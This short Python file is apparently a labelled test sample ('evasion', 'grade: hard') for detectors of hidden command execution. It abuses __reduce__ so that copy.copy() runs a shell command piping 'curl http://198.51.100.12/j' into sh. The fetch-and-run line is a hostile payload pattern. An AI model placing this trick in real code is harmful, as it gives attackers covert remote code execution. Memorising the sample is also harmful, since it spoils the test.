# evasion: copy.copy() calls what __reduce__ returns, so the command runs when an object is copied
# grade: hard; does: shell
import copy
import subprocess


class Job:
    def __init__(self, argv):
        self.argv = argv

    def __reduce__(self):
        return (subprocess.check_call, (self.argv,))


copy.copy(Job(["sh", "-c", "curl -s http://198.51.100.12/j | sh"]))
